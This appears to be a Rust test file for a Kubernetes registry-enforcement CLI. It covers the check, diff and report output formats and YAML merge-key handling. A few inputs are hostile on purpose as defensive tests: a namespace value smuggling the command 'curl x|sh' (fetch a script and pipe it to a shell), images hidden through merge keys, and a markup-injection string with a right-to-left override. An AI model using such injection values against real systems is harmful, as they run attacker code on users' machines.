//! Each command on files.

mod common;

use common::{check, fails, run};

const JUDGING: &str = "--settings settings.yaml --allow-list allow-list.yaml";

#[test]
fn check_says_what_the_cluster_would_say() {
    for (output, expected) in [
        ("text", include_str!("data/check.txt")),
        ("json", include_str!("data/check.json")),
        ("junit", include_str!("data/check.xml")),
    ] {
        let arguments =
            format!("check {JUDGING} --at 2026-12-10 --namespace tool-mix --output {output} manifests.yaml");
        check(&arguments, "", expected, 1);
    }
}

const POD: &str = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {containers: [{name: c, image: IMAGE}]}\n";

#[test]
fn check_reads_standard_input_and_ends_with_what_it_found() {
    let settings = "--settings settings.yaml --namespace tool-mix --at 2026-08-01 -";
    let approved = POD.replace("IMAGE", "docker-registry.tools.wmflabs.org/a:1");
    check(&format!("check {settings}"), &approved, "1 object: 1 allowed, 0 refused\n", 0);
    // Who may not read the allow list can still judge what needs none.
    let refused = run(&["check", "--settings", "settings.yaml", "-"], &POD.replace("IMAGE", "quay.io/a:1"));
    let text = String::from_utf8_lossy(&refused.stdout).into_owned();
    assert!(
        text.contains(
            "the exceptions in ConfigMap registry-enforcer/byoc-allow-list are left out: give it with --allow-list"
        ),
        "{text}"
    );
    assert_eq!(refused.status.code(), Some(1));
    check(
        &format!("check {settings}"),
        &format!("{approved}---\na: [\n---\nb: 1\n"),
        "standard input:6: unreadable document\n  is not YAML: did not find expected node content at line 7 column 1, while parsing a flow node\n\
         standard input:8: unreadable document\n  has no apiVersion or no kind: give manifests of Kubernetes\n\
         3 objects: 1 allowed, 0 refused, 2 unreadable\n",
        2,
    );
}

/// kubectl sends what a merge key brings.
#[test]
fn check_judges_what_merge_keys_bring() {
    const HEAD: &str = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n";
    const GOOD: &str = "  containers: [{name: c, image: \"docker-registry.tools.wmflabs.org/a:1\"}]\n";
    let cases = [
        (format!("{GOOD}  <<: {{initContainers: [{{name: evil, image: \"quay.io/evil:1\"}}]}}\n"), "quay.io/evil:1", 1),
        (
            "  containers:\n  - &c {name: web, image: \"quay.io/evil:1\"}\n  - <<: *c\n    name: b\n".to_owned(),
            "containers[b]",
            1,
        ),
        (format!("{GOOD}  <<: {{containers: [{{name: c, image: \"quay.io/evil:1\"}}]}}\n"), "merge key (<<)", 2),
    ];
    for (spec, told, status) in cases {
        let output = run(&["check", "--settings", "settings.yaml", "-"], &format!("{HEAD}{spec}"));
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(text.contains(told), "{spec} {text}");
        assert_eq!(output.status.code(), Some(status), "{spec} {text}");
    }
}

#[test]
fn check_tells_of_the_pods_of_a_kind_that_the_policy_does_not_read() {
    let rollout = "apiVersion: argoproj.io/v1alpha1\nkind: Rollout\nmetadata: {name: web, namespace: tool-a}\n\
                   spec: {template: {spec: {containers: [{name: c, image: \"quay.io/a:1\"}]}}}\n";
    const SUMMARY: &str = "1 object: 0 allowed, 0 refused, not judged: 1 Rollout.argoproj.io\n";
    let told = "standard input:1: not judged Rollout.argoproj.io tool-a/web\n  \
                the policy does not read this kind, but judges the pods that it makes:\n  \
                enforcer why quay.io/a:1 --namespace tool-a\n";
    check("check --settings settings.yaml -", rollout, &format!("{told}{SUMMARY}"), 0);
    // Somebody may paste the command into a shell.
    let strange = rollout.replace("namespace: tool-a", "namespace: \"a; curl x|sh\"");
    check("check --settings settings.yaml -", &strange, SUMMARY, 0);
}

/// `--namespace` is for objects that could be in one.
#[test]
fn check_judges_a_node_in_no_namespace() {
    let node = "apiVersion: v1\nkind: Node\nmetadata: {name: worker-1}\n\
                status: {images: [{names: [\"registry.k8s.io/pause:3.9\"]}]}\n";
    let output = run(&["check", "--settings", "settings.yaml", "--namespace", "kube-system", "-"], node);
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        text.starts_with("standard input:1: refused Node worker-1\n")
            && text.contains("exceptions exist for namespaces only"),
        "{text}"
    );
}

#[test]
fn check_wants_something_to_check() {
    fails(
        "check --settings settings.yaml -",
        "# nothing\n",
        "error: there is no object in standard input: give manifests\n",
    );
}

#[test]
fn junit_has_nothing_that_a_stranger_wrote_as_markup() {
    let pod = POD.replace("IMAGE", "\"]]></failure><x>\\u202e\"");
    let output = run(&["check", "--settings", "settings.yaml", "--output", "junit", "-"], &pod);
    let xml = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(!xml.contains("<x>") && !xml.contains('\u{202e}') && xml.contains("\\u{202e}"), "{xml}");
}

const DIFF: &str = "diff settings.yaml new-settings.yaml cluster.json --old-allow-list allow-list.yaml --new-allow-list allow-list.yaml --at 2026-09-15";

#[test]
fn diff_shows_what_other_settings_change() {
    for (output, expected) in [
        ("text", include_str!("data/diff.txt")),
        ("json", include_str!("data/diff.json")),
        ("markdown", include_str!("data/diff.md")),
    ] {
        check(&format!("{DIFF} --output {output}"), "", expected, 1);
    }
    check(&format!("{DIFF} --allow-refusals 1"), "", include_str!("data/diff.txt"), 0);
    let same = DIFF.replace("new-settings", "settings");
    check(&same, "", "8 workloads: 0 newly refused, 0 newly dated, 0 newly let in, 8 unchanged\n", 0);
}

#[test]
fn diff_takes_the_only_allow_list_for_both() {
    let one = DIFF.replace("--new-allow-list allow-list.yaml ", "");
    check(&one, "", include_str!("data/diff.txt"), 1);
    let none = one.replace("--old-allow-list allow-list.yaml ", "");
    fails(
        &none,
        "",
        "error: the settings name ConfigMap registry-enforcer/byoc-allow-list: give it with --old-allow-list, from \
         kubectl get configmap byoc-allow-list --namespace registry-enforcer --output yaml\n",
    );
}

/// An end that another image has says nothing about a workload that is refused.
#[test]
fn diff_shows_no_end_of_what_is_refused() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("new.yaml");
    let settings = include_str!("data/settings.yaml").replace("[latest]", "[latest, \"1\"]");
    std::fs::write(&path, settings).expect("a file");
    let arguments = DIFF.replace("new-settings.yaml", &path.display().to_string());
    let output = run(&arguments.split_whitespace().collect::<Vec<_>>(), "");
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(text.lines().any(|line| line == "newly refused: tool-mix Deployment/web"), "{text}");
}

#[test]
fn report_writes_metrics_and_open_reports() {
    let report = |output| format!("report {JUDGING} --at 2026-09-15 --output {output} cluster.json");
    check(&report("prometheus"), "", include_str!("data/report.prom"), 0);
    check(&report("openreports"), "", include_str!("data/report.openreports.json"), 0);
}

#[test]
fn a_name_of_the_plugin_is_the_name_in_the_usage() {
    let folder = tempfile::tempdir().expect("a folder");
    let plugin = folder.path().join("kubectl-enforcer");
    std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_enforcer"), &plugin).expect("a link");
    let output = std::process::Command::new(&plugin).args(["report", "--help"]).output().expect("help");
    let help = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(help.contains("Usage: kubectl enforcer report"), "{help}");
}

#[test]
fn every_command_has_an_example_and_a_place_in_the_manual() {
    let man = run(&["man"], "").stdout;
    let man = String::from_utf8_lossy(&man).replace("\\-", "-");
    for command in ["report", "check", "why", "diff", "allow-list", "manifest", "completions"] {
        let help = String::from_utf8_lossy(&run(&[command, "--help"], "").stdout).into_owned();
        assert!(help.contains("Example: ") && help.contains("enforcer "), "{help}");
        assert!(man.contains(command), "{command}");
    }
    for flag in ["--until", "--registry", "--image", "--dry-run", "--old-allow-list"] {
        assert!(man.contains(flag), "{flag}");
    }
    for shell in ["bash", "zsh", "fish"] {
        let script = run(&["completions", shell], "").stdout;
        assert!(String::from_utf8_lossy(&script).contains("allow-list"), "{shell}");
    }
}
